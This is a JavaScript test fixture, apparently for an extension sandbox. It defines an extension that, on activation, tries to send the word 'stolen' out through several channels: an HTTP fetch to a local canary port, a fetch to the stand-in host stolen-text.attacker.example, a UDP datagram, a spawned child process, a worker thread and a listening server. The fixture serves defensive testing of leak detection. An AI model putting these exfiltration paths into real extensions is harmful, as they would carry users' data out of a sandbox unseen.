// An extension that sends the same text in every way an extension can. It wakes in windows with the file wakes-the-canary.txt;
// leaks.mjs lists what must then be seen of it.
const { spawn } = require('node:child_process');
const { createSocket } = require('node:dgram');
const { createServer } = require('node:net');
const { Worker } = require('node:worker_threads');

const thief = process.env.HEARTH_CANARY_PORT;

exports.activate = () => {
  // A request of its own, and one to a name: the lookup alone tells the text to whoever answers for that name.
  fetch(`http://127.0.0.1:${thief}/stolen`).catch(() => undefined);
  fetch('https://stolen-text.attacker.example/').catch(() => undefined);
  // A datagram.
  const datagram = createSocket('udp4');
  datagram.send('stolen', 9, '127.0.0.9', () => datagram.close());
  // Another program.
  /** @param {number} port */
  const connect = (port) => `require('node:net').connect(${port}, '::1').on('error', () => undefined)`;
  spawn(process.execPath, ['-e', connect(4001)], { stdio: 'ignore' }).on('error', () => undefined);
  // A thread.
  new Worker(connect(4002), { eval: true });
  // A port that waits for whoever comes.
  createServer().listen(0, '127.0.0.1');
};
